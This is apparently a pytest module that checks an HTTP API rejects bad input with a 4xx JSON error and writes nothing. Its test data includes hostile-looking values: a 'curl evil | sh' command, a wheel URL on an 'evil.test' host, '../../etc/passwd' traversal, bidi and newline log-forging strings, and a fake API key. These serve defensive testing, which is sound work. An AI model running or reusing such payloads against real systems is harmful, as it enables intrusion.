"""Bad input to the HTTP API: each case gets a 4xx in the one JSON error shape, naming the
field and what is accepted, and writes nothing. One real server (uvicorn on loopback,
SQLite) serves the whole module."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from observatory.builds.spec import REFUSED_RELEASES
from observatory.service.limits import MAX_BODY_BYTES
from observatory.service.state import ServiceState
from observatory.settings import load_settings
from observatory.store import builds, db
from observatory.store.tables import AlertRow, Build, Run, Validation
from tests.service.conftest import CONFIG, HOST_FP, TOKEN, start_server

GOOD = {"build": "cand", "scenarios": ["chat"], "tag": "v1.81.12"}
BIG = "9" * 20  # past the largest id a database stores
REFUSED = min(REFUSED_RELEASES["litellm"])
PASTED_TOKEN = "sk-live-3f9a8b7c6d5e4f3a2b1c"
JSON_HEADERS = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}


@dataclass
class Api:
    url: str
    sessions: sessionmaker[Session]

    def client(self, **headers: str) -> httpx.Client:
        return httpx.Client(base_url=self.url, headers=headers, timeout=10)

    def counts(self) -> tuple[int, ...]:
        with db.transaction(self.sessions) as session:
            return tuple(
                int(session.scalar(select(func.count()).select_from(model)) or 0)
                for model in (Validation, Run, Build, AlertRow)
            )


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    root = tmp_path_factory.mktemp("bad-input")
    (root / "scenarios").mkdir()
    (root / "scenarios" / "chat.py").write_text("# scenario\n")
    config = root / "observatory.yaml"
    config.write_text(CONFIG.format(data=root / "data", scenarios=root / "scenarios", extra=""))
    settings = load_settings(config, environ={"OBSERVATORY_SERVICE__API_TOKEN": TOKEN})
    engine = db.make_engine(settings.db_url)
    db.upgrade(engine)
    sessions = db.session_factory(engine)
    with db.transaction(sessions) as session:
        builds.sync_configured(session, settings.builds)
    url, running = start_server(ServiceState(settings, sessions, HOST_FP))
    yield Api(url, sessions)
    running.stop()
    engine.dispose()


def _assert_problem(response: httpx.Response, status: int, field: str | None, words: str) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/json"), response.text
    error = response.json()["error"]
    assert isinstance(error["message"], str)
    assert isinstance(error["fields"], list)
    if field is not None:
        assert field in [f["field"] for f in error["fields"]], error
    assert words in error["message"], error["message"]


# (body change, status, field, words in the message)
BODY_CASES: list[tuple[dict[str, Any], int, str, str]] = [
    # build: names and pip specs
    ({"build": "nope"}, 400, "build", "give a configured build (cand, dev, stable)"),
    ({"build": "litellm==1.*"}, 400, "build", "ranges are refused"),
    ({"build": "litellm>=1.0"}, 400, "build", "or an exact version such as 'litellm==1.81.9'"),
    ({"build": "litellm==1.81.16,<2"}, 400, "build", "one exact version"),
    ({"build": "litellm==banana"}, 400, "build", "expected e.g. 'litellm[proxy]==1.81.9'"),
    ({"build": "litellm"}, 400, "build", "or an exact version such as 'litellm==1.81.9'"),
    ({"build": f"litellm=={REFUSED}"}, 400, "build", "compromised release"),
    ({"build": f"litellm[proxy]=={REFUSED}"}, 400, "build", "compromised release"),
    ({"build": "LiteLLM==1.107"}, 400, "build", "compromised release"),
    ({"build": "requests==2.31.0"}, 400, "build", "accepted: litellm"),
    ({"build": "litellm @ https://evil.test/x.whl"}, 400, "build", "or an exact version"),
    ({"build": "litellm==1.81.16; python_version>'3'"}, 400, "build", "markers"),
    ({"build": "litellm[proxy,zzz]==1.81.16"}, 400, "build", "extras come from the config"),
    ({"build": "litellm[zzz]==1.81.16"}, 400, "build", "accepted: e.g. 'litellm==1.81.16'"),
    ({"build": "litellm==1.81.16\x00"}, 400, "build", "bad pip spec"),
    ({"build": "../../etc/passwd"}, 400, "build", "unknown build"),
    ({"build": ""}, 422, "build", "at least 1 character"),
    ({"build": "x" * 301}, 422, "build", "at most 300 characters"),
    ({"build": 12}, 422, "build", "valid string"),
    ({"build": None}, 422, "build", "valid string"),
    ({"build": ["cand"]}, 422, "build", "valid string"),
    # scenarios
    ({"scenarios": ["nope"]}, 400, "scenarios", "known: chat, mixed"),
    ({"scenarios": []}, 422, "scenarios", "at least 1"),
    ({"scenarios": "chat"}, 422, "scenarios", "valid list"),
    ({"scenarios": ["chat", "chat"]}, 422, "scenarios", "each scenario may be given once"),
    ({"scenarios": [1]}, 422, "scenarios.0", "valid string"),
    ({"scenarios": None}, 422, "scenarios", "valid list"),
    ({"scenarios": [f"s{i}" for i in range(51)]}, 422, "scenarios", "at most 50"),
    ({"scenarios": ["chat\x00"]}, 400, "scenarios", "known: chat, mixed"),
    # duration
    ({"duration": "5 parsecs"}, 422, "duration", "bad duration"),
    ({"duration": "30d"}, 400, "duration", "outside 1s..7d"),
    ({"duration": "0s"}, 400, "duration", "outside 1s..7d"),
    ({"duration": -5}, 422, "duration", "bad duration"),
    ({"duration": ""}, 422, "duration", "bad duration"),
    ({"duration": [1]}, 422, "duration", "bad duration"),
    ({"duration": 1e308}, 400, "duration", "outside 1s..7d"),
    # tag and requester: free text, printable only
    ({"tag": "v1\x00"}, 400, "tag", "U+0000 at position 2 is refused; accepted: printable"),
    ({"tag": "v1\u202egnp.exe"}, 400, "tag", "U+202E"),
    ({"tag": "v1\u2066x"}, 400, "tag", "U+2066"),
    ({"tag": "v1\u200b"}, 400, "tag", "U+200B"),
    ({"tag": "v1\nforged log line"}, 400, "tag", "U+000A"),
    ({"tag": "\x1b[31mred"}, 400, "tag", "U+001B"),
    ({"tag": "t" * 201}, 422, "tag", "at most 200 characters"),
    ({"tag": 5}, 422, "tag", "valid string"),
    ({"requester": "me\x07"}, 400, "requester", "U+0007"),
    ({"requester": "me\u202e"}, 400, "requester", "U+202E"),
    ({"requester": "r" * 201}, 422, "requester", "at most 200 characters"),
    # baseline
    ({"baseline": "\u00b2"}, 400, "baseline", "accepted: auto, none, alongside, or a run id"),
    ({"baseline": "\uff11"}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": BIG}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": "0"}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": "-1"}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": "1.5"}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": ""}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": "sometimes"}, 400, "baseline", "accepted: auto, none, alongside"),
    ({"baseline": "99999"}, 400, "baseline", "unknown run 99999"),
    ({"baseline": "9" * 21}, 422, "baseline", "at most 20 characters"),
    ({"baseline": 7}, 422, "baseline", "valid string"),
    # source and unknown fields: nothing sent can run a command or pick a URL
    ({"source": "schedule"}, 422, "source", "'api' or 'ci'"),
    ({"source": "cli"}, 422, "source", "'api' or 'ci'"),
    ({"command": "curl evil | sh"}, 422, "command", "unknown field; accepted: baseline, build"),
    ({"url": "http://10.0.0.1"}, 422, "url", "unknown field"),
    ({"pip": "litellm==1.81.16"}, 422, "pip", "unknown field"),
    ({"extras": ["proxy"]}, 422, "extras", "unknown field"),
]


@pytest.mark.parametrize(("change", "status", "field", "words"), BODY_CASES)
def test_bad_body_field_is_named_and_nothing_is_written(
    api: Api, change: dict[str, Any], status: int, field: str, words: str
) -> None:
    before = api.counts()
    with api.client(Authorization=f"Bearer {TOKEN}") as client:
        response = client.post("/api/v1/validations", json={**GOOD, **change})
    _assert_problem(response, status, field, words)
    assert api.counts() == before


# (raw body, status, field, words)
RAW_CASES: list[tuple[bytes, int, str | None, str]] = [
    (b'{"build": "cand", "scen', 400, "body", "body: invalid JSON at position"),
    (b"hello", 400, "body", "invalid JSON at position 0"),
    (b'{"build": "cand",}', 400, "body", "invalid JSON"),
    (b"\xff\xfe\x00", 400, "body", "body: not JSON text in UTF-8"),
    (b"[]", 422, None, "invalid request"),
    (b'"cand"', 422, None, "invalid request"),
    (b"null", 422, None, "invalid request"),
    (b"{}", 422, "build", "build: required"),
    (b'{"scenarios": ["chat"]}', 422, "build", "build: required"),
    (b'{"build": "cand"}', 422, "scenarios", "scenarios: required"),
    (b'{"build": "cand", "scenarios": ["chat"], "duration": NaN}', 422, "duration", "bad"),
    (b'{"build": "cand", "scenarios": ["chat"], "duration": 1e999}', 422, "duration", "bad"),
]


@pytest.mark.parametrize(("raw", "status", "field", "words"), RAW_CASES)
def test_malformed_json_is_a_4xx_without_a_byte_offset_as_field(
    api: Api, raw: bytes, status: int, field: str | None, words: str
) -> None:
    before = api.counts()
    with api.client(**JSON_HEADERS) as client:
        response = client.post("/api/v1/validations", content=raw)
    _assert_problem(response, status, field, words)
    assert all(not f["field"].isdigit() for f in response.json()["error"]["fields"])
    assert api.counts() == before


# (content type, status, words)
MEDIA_CASES = [
    ("text/plain", 415, "Content-Type: accepted: application/json"),
    ("application/x-www-form-urlencoded", 415, "accepted: application/json"),
    ("multipart/form-data; boundary=x", 415, "accepted: application/json"),
    ("application/xml", 415, "accepted: application/json"),
    ("", 415, "accepted: application/json"),
]


@pytest.mark.parametrize(("media", "status", "words"), MEDIA_CASES)
def test_writes_need_a_json_body(api: Api, media: str, status: int, words: str) -> None:
    before = api.counts()
    headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": media}
    with api.client(**headers) as client:
        response = client.post("/api/v1/validations", content=b'{"build": "cand"}')
    _assert_problem(response, status, "Content-Type", words)
    assert api.counts() == before


def test_json_with_a_charset_is_json(api: Api) -> None:
    headers = {**JSON_HEADERS, "Content-Type": "application/json; charset=utf-8"}
    with api.client(**headers) as client:
        response = client.post("/api/v1/validations", content=b'{"build": "cand"}')
    _assert_problem(response, 422, "scenarios", "scenarios: required")


def test_a_declared_large_body_is_refused_before_it_is_read(api: Api) -> None:
    before = api.counts()
    body = b'{"build": "' + b"x" * MAX_BODY_BYTES + b'"}'
    with api.client(Authorization="Bearer wrong") as client:  # 413 comes before the 401
        response = client.post(
            "/api/v1/validations", content=body, headers={"Content-Type": "application/json"}
        )
    _assert_problem(response, 413, "body", f"larger than the limit of {MAX_BODY_BYTES} bytes")
    assert api.counts() == before


def test_a_streamed_large_body_is_cut_off_at_the_limit(api: Api) -> None:
    def chunks() -> Iterator[bytes]:  # no Content-Length: chunked transfer encoding
        yield b'{"build": "'
        # 1.5 times the limit: past it, yet small enough to sit in the socket buffers when
        # the server answers early and closes
        for _ in range(MAX_BODY_BYTES * 3 // 2 // 1024):
            yield b"x" * 1024
        yield b'", "scenarios": ["chat"]}'

    before = api.counts()
    with api.client(**JSON_HEADERS) as client:
        response = client.post("/api/v1/validations", content=chunks())
    _assert_problem(response, 413, None, f"larger than the limit of {MAX_BODY_BYTES} bytes")
    assert api.counts() == before


# Authorization headers that must never authorise a write.
AUTH_CASES = [
    {},
    {"Authorization": "Bearer"},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Token {TOKEN}"},
    {"Authorization": TOKEN},
    {"Cookie": f"observatory_session={TOKEN}"},
]


@pytest.mark.parametrize("headers", AUTH_CASES)
def test_writes_refuse_every_header_but_the_right_bearer_token(
    api: Api, headers: dict[str, str]
) -> None:
    before = api.counts()
    with api.client(**headers) as client:
        for path in ("/api/v1/validations", "/api/v1/runs/1/cancel", "/api/v1/builds/cand/promote"):
            response = client.post(path, json=GOOD)
            _assert_problem(response, 401, None, "")
            assert TOKEN not in response.text
    assert api.counts() == before


@pytest.mark.parametrize("header", [b"Bearer ", b"Bearer   ", b"Bearer \t", b"bearer  "])
def test_an_empty_bearer_token_never_authorises(api: Api, header: bytes) -> None:
    """Sent raw: HTTP clients refuse to send a header value ending in whitespace."""
    before = api.counts()
    body = json.dumps(GOOD).encode()
    host, port = api.url.removeprefix("http://").split(":")
    request = (
        b"POST /api/v1/validations HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        b"Authorization: " + header + b"\r\nContent-Type: application/json\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(request)
        answer = b"".join(iter(lambda: conn.recv(65536), b""))
    head, _, payload = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 401"), answer[:200]
    assert json.loads(payload)["error"]["message"] == "invalid API token"
    assert api.counts() == before


def test_a_token_pasted_as_build_is_not_echoed(api: Api) -> None:
    with api.client(Authorization=f"Bearer {TOKEN}") as client:
        for build in (PASTED_TOKEN, f"{PASTED_TOKEN}==1.0", f"litellm=={PASTED_TOKEN}"):
            response = client.post("/api/v1/validations", json={**GOOD, "build": build})
            _assert_problem(response, 400, "build", "build: ")
            assert PASTED_TOKEN not in response.text


# (method, path, status, field, words)
PATH_CASES = [
    ("GET", f"/api/v1/runs/{BIG}", 422, "run_id", "less than or equal to 9223372036854775807"),
    ("GET", "/api/v1/runs/0", 422, "run_id", "greater than or equal to 1"),
    ("GET", "/api/v1/runs/-1", 422, "run_id", "greater than or equal to 1"),
    ("GET", "/api/v1/runs/abc", 422, "run_id", "valid integer"),
    ("GET", "/api/v1/runs/%C2%B2", 422, "run_id", "valid integer"),
    ("GET", "/api/v1/runs/1.5", 422, "run_id", "valid integer"),
    ("GET", "/api/v1/runs/424242", 404, None, "unknown run 424242"),
    ("GET", f"/api/v1/validations/{BIG}", 422, "validation_id", "less than or equal"),
    ("GET", "/api/v1/validations/x", 422, "validation_id", "valid integer"),
    ("GET", "/api/v1/validations/424242", 404, None, "unknown validation 424242"),
    ("GET", f"/runs/{BIG}/report", 422, "run_id", "less than or equal"),
    ("GET", f"/runs/{BIG}/index.html", 422, "run_id", "less than or equal"),
    ("GET", f"/runs/{BIG}/windows.csv", 422, "run_id", "less than or equal"),
    ("GET", "/runs/%C2%B2/report", 422, "run_id", "valid integer"),
    ("POST", f"/api/v1/runs/{BIG}/cancel", 422, "run_id", "less than or equal"),
    ("POST", "/api/v1/runs/424242/cancel", 404, None, "unknown run 424242"),
    ("POST", "/api/v1/builds/nope/promote", 404, None, "unknown build 'nope'"),
    ("GET", "/api/v1/runs?status=bogus", 400, "status", "accepted: queued, provisioning"),
    ("GET", "/api/v1/runs?verdict=bogus", 400, "verdict", "accepted: pass, regression"),
    ("GET", "/api/v1/runs?limit=0", 422, "limit", "greater than or equal to 1"),
    ("GET", "/api/v1/runs?limit=501", 422, "limit", "less than or equal to 500"),
    ("GET", "/api/v1/runs?limit=abc", 422, "limit", "valid integer"),
    ("GET", f"/api/v1/runs?limit={BIG}", 422, "limit", "less than or equal to 500"),
    ("GET", "/api/v1/validations?limit=-1", 422, "limit", "greater than or equal to 1"),
]


@pytest.mark.parametrize(("method", "path", "status", "field", "words"), PATH_CASES)
def test_bad_ids_and_filters_are_4xx_json(
    api: Api, method: str, path: str, status: int, field: str | None, words: str
) -> None:
    before = api.counts()
    with api.client(Authorization=f"Bearer {TOKEN}") as client:
        response = client.request(method, path)
    _assert_problem(response, status, field, words)
    assert api.counts() == before


def test_a_good_request_still_passes(api: Api) -> None:
    """The control: the cases above fail for their bad part, not for a broken fixture."""
    with api.client(Authorization=f"Bearer {TOKEN}") as client:
        response = client.post("/api/v1/validations", json=GOOD)
    assert response.status_code == 202, response.text
